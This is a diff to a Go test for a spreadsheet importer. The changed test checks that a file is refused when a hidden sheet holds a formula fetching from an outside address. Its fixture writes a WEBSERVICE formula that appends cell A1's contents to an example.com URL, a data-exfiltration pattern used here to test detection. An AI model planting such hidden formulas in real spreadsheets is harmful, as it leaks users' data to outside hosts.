@@ -2,6 +2,7 @@ package app_test
 
 import (
 	"bytes"
+	"errors"
 	"strings"
 	"testing"
 
@@ -13,8 +14,8 @@ import (
 )
 
 // TestImportLooksWhereNobodyReads: a formula that fetches from elsewhere refuses
-// the file also where it stands on a sheet that no mapping names, and a hidden
-// sheet is told of.
+// the file also where it stands on a hidden sheet, which is otherwise left out and
+// told of.
 func TestImportLooksWhereNobodyReads(t *testing.T) {
 	w := newWorld(t)
 	w.province(t)
@@ -42,7 +43,7 @@ func TestImportLooksWhereNobodyReads(t *testing.T) {
 	}
 
 	im := w.started(ctx, t, "harmful", with(func(f *excelize.File) error {
-		return f.SetCellFormula("Khác", "B500", `WEBSERVICE("http://example.com/"&A1)`)
+		return errors.Join(f.SetSheetVisible("Khác", false), f.SetCellFormula("Khác", "B2", `WEBSERVICE("http://example.com/"&A1)`))
 	}))
 	problems, err := w.ImportProblems(ctx, im.ID, []sheet.Severity{sheet.Error}, app.PageArgs{})
 	if err != nil {
